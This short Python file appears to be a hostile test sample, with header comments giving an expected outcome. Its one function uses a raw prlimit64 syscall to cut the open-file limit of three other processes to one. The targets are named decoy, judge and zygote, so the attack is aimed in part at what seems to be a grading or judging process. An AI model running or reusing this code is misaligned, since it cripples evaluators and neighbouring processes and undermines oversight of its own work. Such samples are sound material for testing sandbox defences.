# ends: returned, raised
# takes another process's open files away by its limits

import ctypes


def attack(scene):
    limits = (ctypes.c_uint64 * 2)(1, 1)
    for pid in (scene["decoy_pid"], scene["judge_pid"], scene["zygote_pid"]):
        ctypes.CDLL(None).syscall(302, pid, 7, limits, None)
